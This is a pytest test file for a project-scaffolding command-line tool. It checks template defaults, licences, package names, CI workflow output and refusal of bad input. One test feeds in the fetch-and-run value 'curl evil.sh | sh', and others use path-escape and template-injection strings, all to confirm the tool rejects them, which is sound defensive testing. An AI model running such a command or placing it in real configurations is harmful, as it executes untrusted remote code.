"""``portfolio new``: the happy paths beyond defaults, every kind of bad input, and atomicity."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
import yaml

from generator.jinja_ext import action_ref, canonical_repository, portfolio_action_ref
from generator.naming import is_valid_package_name, package_name
from generator.scaffold import render
from tests.generated import actionlint
from tests.helpers import AUTHOR, build_tree, git, git_init_commit, run_cli, run_portfolio


def tree(root: Path) -> dict[str, bytes]:
    """Every file below ``root`` except git's internals, with its bytes."""
    return {
        p.relative_to(root).as_posix(): p.read_bytes()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def leftovers(parent: Path) -> list[str]:
    return [p.name for p in parent.iterdir() if ".portfolio-" in p.name]


def new(*args: str, input: str | None = None):
    return run_cli(["new", *args], input=input)


def test_defaults_give_a_committed_project(tmp_path: Path):
    result = new("classification", str(tmp_path / "demo"), "--defaults", "--author", AUTHOR)
    assert result.exit_code == 0, result.output
    assert git(tmp_path / "demo", "log", "--format=%an <%ae>") == AUTHOR
    answers = yaml.safe_load((tmp_path / "demo" / ".copier-answers.yml").read_text())
    assert answers["project_type"] == "classification"
    assert answers["author_name"] == "Ada Learner"


@pytest.mark.slow
def test_several_news_at_once_share_the_template_store(tmp_path: Path):
    """A class script or parallel CI jobs run `portfolio new` side by side on one machine: every run
    pins its template version in the same store, one after the other, and every project is made."""
    import subprocess
    import sys

    types = ["classification", "regression", "nlp", "clustering"]
    runs = [
        subprocess.Popen(
            [sys.executable, "-m", "generator", "new", kind, str(tmp_path / kind), "--defaults", "--author", AUTHOR],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for kind in types
    ]
    errors = [run.communicate(timeout=300)[1] for run in runs]
    assert [run.returncode for run in runs] == [0] * len(types), errors
    commits = {yaml.safe_load((tmp_path / kind / ".copier-answers.yml").read_text())["_commit"] for kind in types}
    assert len(commits) == 1  # one snapshot of the built-in templates, tagged once


def test_author_comes_from_git_config_when_not_given(tmp_path: Path):
    result = new("classification", str(tmp_path / "demo"), "--defaults")
    assert result.exit_code == 0, result.output
    assert git(tmp_path / "demo", "log", "--format=%an <%ae>") == "Test Author <test@example.com>"


@pytest.mark.slow
def test_git_variables_of_an_enclosing_hook_leave_that_repository_alone(tmp_path: Path):
    """Run from a git hook or alias, GIT_DIR and GIT_INDEX_FILE name the user's own repository."""
    outer = git_init_commit(build_tree(tmp_path / "outer", {"notes.txt": "mine\n"}))
    before = git(outer, "rev-parse", "HEAD")
    hook_env = {"GIT_DIR": str(outer / ".git"), "GIT_INDEX_FILE": str(outer / ".git" / "index")}
    result = run_portfolio(
        ["new", "classification", str(tmp_path / "demo"), "--defaults", "--author", AUTHOR], env=hook_env
    )
    assert result.returncode == 0, result.stderr
    assert git(outer, "rev-parse", "HEAD") == before
    assert git(outer, "status", "--porcelain") == ""
    assert git(tmp_path / "demo", "rev-list", "--count", "HEAD") == "1"
    assert git(tmp_path / "demo", "status", "--porcelain") == ""


def test_destination_defaults_to_the_repo_name_in_the_current_folder(tmp_path: Path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = new("classification", "--defaults", "--name", "Loan Default Risk")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "loan-default-risk" / "src" / "loan_default_risk" / "train.py").is_file()


@pytest.mark.slow
def test_flags_data_and_answers_file_are_combined(tmp_path: Path):
    answers_file = build_tree(tmp_path, {"answers.yml": "description: From the file\nlicense: BSD-3-Clause\n"})
    result = new(
        "classification",
        str(tmp_path / "p"),
        "--defaults",
        "--answers-file",
        str(answers_file / "answers.yml"),
        "--data",
        "license=Apache-2.0",
        "--name",
        "Churn",
        "--data",
        "docs_check_in_ci=yes",
    )
    assert result.exit_code == 0, result.output
    answers = yaml.safe_load((tmp_path / "p" / ".copier-answers.yml").read_text())
    assert answers["description"] == "From the file"
    assert answers["license"] == "Apache-2.0"  # --data wins over the file
    assert answers["docs_check_in_ci"] is True
    assert "Apache License" in (tmp_path / "p" / "LICENSE").read_text()
    ci = yaml.safe_load((tmp_path / "p" / ".github/workflows/ci.yml").read_text())
    step = next(step for step in ci["jobs"]["test"]["steps"] if step.get("name") == "Documentation completeness")
    assert step == {"name": "Documentation completeness", "uses": portfolio_action_ref(), "with": {"min-score": "80"}}
    # the action posts the commit status portfolio/docs: only this job may, the workflow stays read-only
    assert ci["permissions"] == {"contents": "read"}
    assert ci["jobs"]["test"]["permissions"] == {"contents": "read", "statuses": "write"}
    assert actionlint(tmp_path / "p" / ".github/workflows/ci.yml") == []


def test_ci_runs_the_check_action_a_bootcamp_pins(tmp_path: Path):
    result = new(
        "regression",
        str(tmp_path / "p"),
        "--defaults",
        "--author",
        AUTHOR,
        "--data",
        "docs_check_in_ci=true",
        "--data",
        "portfolio_action=bootcamp/portfolio@v2.1.0",
    )
    assert result.exit_code == 0, result.output
    ci = yaml.safe_load((tmp_path / "p" / ".github/workflows/ci.yml").read_text())
    steps = [step for step in ci["jobs"]["test"]["steps"] if step.get("name") == "Documentation completeness"]
    assert [step["uses"] for step in steps] == ["bootcamp/portfolio@v2.1.0"]


def test_an_action_reference_that_is_not_owner_repo_at_ref_is_refused(tmp_path: Path):
    result = new(
        "regression",
        str(tmp_path / "p"),
        "--defaults",
        "--author",
        AUTHOR,
        "--data",
        "portfolio_action=curl evil.sh | sh",
    )
    assert result.exit_code != 0
    assert "OWNER/REPO@REF" in result.output
    assert not (tmp_path / "p").exists()


@pytest.mark.parametrize(
    "direct_url, expected",
    [
        (
            {"url": "https://github.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
            "acme/portfolio@0a1b2c",
        ),
        (
            {"url": "git@github.com:acme/portfolio", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
            "acme/portfolio@0a1b2c",
        ),
        (
            {"url": "https://gitlab.com/acme/portfolio.git", "vcs_info": {"vcs": "git", "commit_id": "0a1b2c"}},
            f"{canonical_repository()}@v1.2.3",
        ),
        ({"url": "file:///home/ada/portfolio", "dir_info": {"editable": True}}, f"{canonical_repository()}@v1.2.3"),
        (None, f"{canonical_repository()}@v1.2.3"),
    ],
    ids=["github-https", "github-ssh", "other-host", "local-folder", "index"],
)
def test_the_check_action_defaults_to_where_portfolio_came_from(direct_url, expected):
    assert action_ref(direct_url, "1.2.3") == expected


def test_ci_has_no_documentation_step_unless_asked(tmp_path: Path):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--author", AUTHOR)
    assert result.exit_code == 0, result.output
    assert "portfolio" not in (tmp_path / "p" / ".github/workflows/ci.yml").read_text().split("Train (smoke run)")[1]


@pytest.mark.parametrize(
    "licence, marker",
    [("MIT", "MIT License"), ("BSD-3-Clause", "BSD 3-Clause"), ("Apache-2.0", "Apache License")],
)
def test_licences_carry_author_and_year(tmp_path: Path, licence: str, marker: str):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--license", licence, "--author", AUTHOR)
    assert result.exit_code == 0, result.output
    text = (tmp_path / "p" / "LICENSE").read_text()
    assert marker in text and "Ada Learner" in text and re.search(r"20\d\d", text)


def test_licence_none_means_no_licence_file(tmp_path: Path):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--license", "none")
    assert result.exit_code == 0, result.output
    assert not (tmp_path / "p" / "LICENSE").exists()


@pytest.mark.parametrize(
    "name, expected",
    [
        ("My Project", "my_project"),
        ("Élan Vital Über", "elan_vital_uber"),
        ("2024 Sales Forecast", "p_2024_sales_forecast"),
        ("class", "class_project"),
        ("import", "import_project"),
        ("日本語", "ri_ben_yu"),  # transliterated (text-unidecode), as repository names are
        ("  spaced   out  ", "spaced_out"),
        ("sklearn", "sklearn_project"),
    ],
)
def test_names_become_valid_package_names(name: str, expected: str):
    assert package_name(name) == expected
    assert is_valid_package_name(expected)


def test_awkward_name_is_rendered_and_the_package_shown(tmp_path: Path):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--name", "2024 Café class")
    assert result.exit_code == 0, result.output
    assert "Python package name: p_2024_cafe_class" in result.stdout
    assert (tmp_path / "p" / "src" / "p_2024_cafe_class" / "train.py").is_file()
    assert "# 2024 Café class" in (tmp_path / "p" / "README.md").read_text(encoding="utf-8")


@pytest.mark.slow
def test_template_syntax_in_answers_stays_literal(tmp_path: Path):
    name = "{{ 7*7 }} model {% if true %}yes{% endif %}"
    description = 'Uses {{ config }} and {# comment #} literally "quoted"'
    result = new("classification", str(tmp_path / "p"), "--defaults", "--name", name, "--description", description)
    assert result.exit_code == 0, result.output
    readme = (tmp_path / "p" / "README.md").read_text()
    assert f"# {name}" in readme
    assert description in readme
    assert "49" not in readme.splitlines()[0]
    pyproject = (tmp_path / "p" / "pyproject.toml").read_text()
    import tomllib

    assert tomllib.loads(pyproject)["project"]["description"] == description
    assert f"# Model card: {name}" in (tmp_path / "p" / "docs" / "model_card.md").read_text()


# The classification project's own tests shrink these for their trainings too (its tests/conftest.py).
QUICK_SETTINGS = {
    "cv_folds = 5": "cv_folds = 3",
    "forest_trees = 200": "forest_trees = 50",
    "repeats = 5": "repeats = 2",
    "bootstrap_resamples = 200": "bootstrap_resamples = 100",
}


@pytest.mark.slow
def test_own_csv_is_copied_wired_in_and_trains(tmp_path: Path):
    rows = ["age,plan,monthly_fee,churned"]
    for i in range(120):
        rows.append(f"{20 + i % 50},{'basic' if i % 3 else 'pro'},{10 + (i * 7) % 40},{'yes' if i % 4 == 0 else 'no'}")
    csv_file = build_tree(tmp_path, {"in/churn data.csv": "\n".join(rows) + "\n"}) / "in" / "churn data.csv"
    result = new("classification", str(tmp_path / "p"), "--defaults", "--dataset", str(csv_file), "--target", "churned")
    assert result.exit_code == 0, result.output
    project = tmp_path / "p"
    assert (project / "data/raw/churn data.csv").read_bytes() == csv_file.read_bytes()
    assert 'csv = "data/raw/churn data.csv"' in (project / "params.toml").read_text()
    assert "`data/raw/churn data.csv`" in (project / "README.md").read_text()
    assert "Breast Cancer" not in (project / "docs/data_card.md").read_text()
    package = next((project / "src").iterdir()).name
    params = (project / "params.toml").read_text()
    for setting, quick in QUICK_SETTINGS.items():  # what is checked here needs no full-size training
        assert f"\n{setting}\n" in params, setting
        params = params.replace(f"\n{setting}\n", f"\n{quick}\n")
    (project / "params.toml").write_text(params)
    env = {**os.environ, "PYTHONPATH": str(project / "src"), "MPLBACKEND": "Agg"}
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-m", f"{package}.train"],
        cwd=project,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert run.returncode == 0, run.stderr
    assert (project / "reports/metrics.json").is_file()
    # No slices until the learner names columns; then the worst slice of them is reported.
    assert "under `[slices]` in `params.toml`" in (project / "README.md").read_text()
    assert not (project / "reports/slices.json").exists()
    (project / "params.toml").write_text(params.replace("columns = []", 'columns = ["plan", "age"]'))
    again = subprocess.run(
        [sys.executable, "-m", f"{package}.train"], cwd=project, env=env, capture_output=True, text=True, timeout=300
    )
    assert again.returncode == 0, again.stderr
    slices = json.loads((project / "reports/slices.json").read_text())
    assert {item["column"] for item in slices["slices"]} == {"plan", "age"}
    assert {"basic", "pro"} <= {item["slice"] for item in slices["slices"]}
    worst = slices["worst"]
    assert f"`{worst['column']}` = {worst['slice']}" in (project / "README.md").read_text()


# --- bad input: one line, non-zero exit, nothing created or changed ---------------------------


def assert_one_line_error(result, *fragments: str) -> None:
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error:")
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


def test_unknown_type_suggests_the_closest_ids(tmp_path: Path):
    result = new("clasification", str(tmp_path / "p"), "--defaults")
    assert_one_line_error(result, "unknown project type", "'classification'")
    assert not (tmp_path / "p").exists()


def test_non_empty_destination_is_refused_and_untouched(tmp_path: Path):
    build_tree(tmp_path, {"p/notes.txt": "mine"})
    result = new("classification", str(tmp_path / "p"), "--defaults")
    assert_one_line_error(result, "not empty")
    assert tree(tmp_path / "p") == {"notes.txt": b"mine"}


def test_empty_destination_folder_is_used(tmp_path: Path):
    (tmp_path / "p").mkdir()
    assert new("classification", str(tmp_path / "p"), "--defaults").exit_code == 0
    assert (tmp_path / "p" / "README.md").is_file()


def test_destination_that_is_a_file_is_refused(tmp_path: Path):
    build_tree(tmp_path, {"p": "a file"})
    assert_one_line_error(new("classification", str(tmp_path / "p"), "--defaults"), "not a folder")
    assert (tmp_path / "p").read_text() == "a file"


@pytest.mark.parametrize("name", ["../x", "/etc/x", "..", "./x", "~/x", "a/../../b", "C:\\x"])
def test_names_that_escape_are_refused(tmp_path: Path, monkeypatch, name: str):
    monkeypatch.chdir(tmp_path)
    result = new("classification", "--defaults", "--name", name)
    assert_one_line_error(result, "looks like a path")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("package", ["../x", "My-Package", "1abc", "class", "os"])
def test_invalid_package_names_are_refused(tmp_path: Path, package: str):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--package", package)
    assert_one_line_error(result, "package")
    assert not (tmp_path / "p").exists()


def test_missing_csv_is_refused(tmp_path: Path):
    result = new(
        "classification",
        str(tmp_path / "p"),
        "--defaults",
        "--dataset",
        str(tmp_path / "no.csv"),
        "--target",
        "y",
    )
    assert_one_line_error(result, "dataset not found")
    assert not (tmp_path / "p").exists()


def test_missing_target_column_is_refused(tmp_path: Path):
    build_tree(tmp_path, {"d.csv": "a,b\n1,2\n"})
    result = new(
        "classification",
        str(tmp_path / "p"),
        "--defaults",
        "--dataset",
        str(tmp_path / "d.csv"),
        "--target",
        "label",
    )
    assert_one_line_error(result, "'label' not found", "a, b")
    assert not (tmp_path / "p").exists()


def test_target_without_dataset_is_refused(tmp_path: Path):
    assert_one_line_error(new("classification", str(tmp_path / "p"), "--defaults", "--target", "y"), "--dataset")


def test_no_git_author_is_a_clear_error(tmp_path: Path, no_git_identity):
    result = new("classification", str(tmp_path / "p"), "--defaults")
    assert_one_line_error(result, "no git author", "git config --global user.name", "--author")
    assert not (tmp_path / "p").exists()


def test_malformed_author_is_refused(tmp_path: Path):
    assert_one_line_error(
        new("classification", str(tmp_path / "p"), "--defaults", "--author", "just a name"), "Name <email"
    )


def test_unknown_data_key_names_the_closest_question(tmp_path: Path):
    result = new("classification", str(tmp_path / "p"), "--defaults", "--data", "licence=MIT")
    assert_one_line_error(result, "no question 'licence'", "'license'")


def test_invalid_choice_is_refused(tmp_path: Path):
    assert_one_line_error(new("classification", str(tmp_path / "p"), "--defaults", "--license", "GPL"), "not one of")


def test_broken_answers_file_is_refused(tmp_path: Path):
    build_tree(tmp_path, {"a.yml": "license: [unclosed\n"})
    assert_one_line_error(
        new("classification", str(tmp_path / "p"), "--defaults", "--answers-file", str(tmp_path / "a.yml")),
        "cannot parse answers",
    )


def test_missing_type_without_a_terminal_is_a_usage_error(tmp_path: Path):
    result = new("--defaults")
    assert result.exit_code == 2
    assert "missing TYPE" in result.stderr


# --- atomicity ------------------------------------------------------------------------------


@pytest.mark.parametrize("exception", [RuntimeError("disk on fire"), KeyboardInterrupt()])
def test_failure_after_render_leaves_nothing_behind(tmp_path: Path, monkeypatch, exception: BaseException):
    def explode(*args, **kwargs):
        raise exception

    monkeypatch.setattr(render, "init_and_commit", explode)
    request = render.NewProject(
        entry=__import__("generator.catalog.entries", fromlist=["load_catalog"]).load_catalog().get("classification"),
        destination=tmp_path / "p",
        author=render.Author("A", "a@example.com"),
    )
    with pytest.raises(type(exception)):
        render.render_project(request)
    assert list(tmp_path.iterdir()) == []


def test_template_error_mid_render_leaves_nothing_behind(tmp_path: Path):
    catalog = build_tree(
        tmp_path / "catalog",
        {
            "project_catalog/broken.toml": (
                'id = "broken"\ntitle = "Broken"\nsummary = "s"\nlevel = "foundational"\nskills = ["x"]\n'
                'metrics = ["accuracy"]\ntopics = ["x"]\n'
                'dataset = { name = "d", source = "s", licence = "l" }\n'
                'template = { engine = "copier", path = "tpl" }\n'
            ),
            "tpl/copier.yml": "project_name:\n  type: str\n  default: x\n",
            "tpl/a_first.txt.jinja": "fine {{ project_name }}\n",
            "tpl/b_second.txt.jinja": "{{ project_name | no_such_filter }}\n",
        },
    )
    out = tmp_path / "out"
    out.mkdir()
    result = run_cli(["--catalog", str(catalog), "new", "broken", str(out / "p"), "--defaults"])
    assert_one_line_error(result, "rendering")
    assert list(out.iterdir()) == []


def test_cli_subprocess_entry_points(tmp_path: Path):
    result = run_portfolio(["--version"])
    assert result.returncode == 0 and result.stdout.startswith("portfolio ")
    result = run_portfolio(["new", "nope", str(tmp_path / "x"), "--defaults"])
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
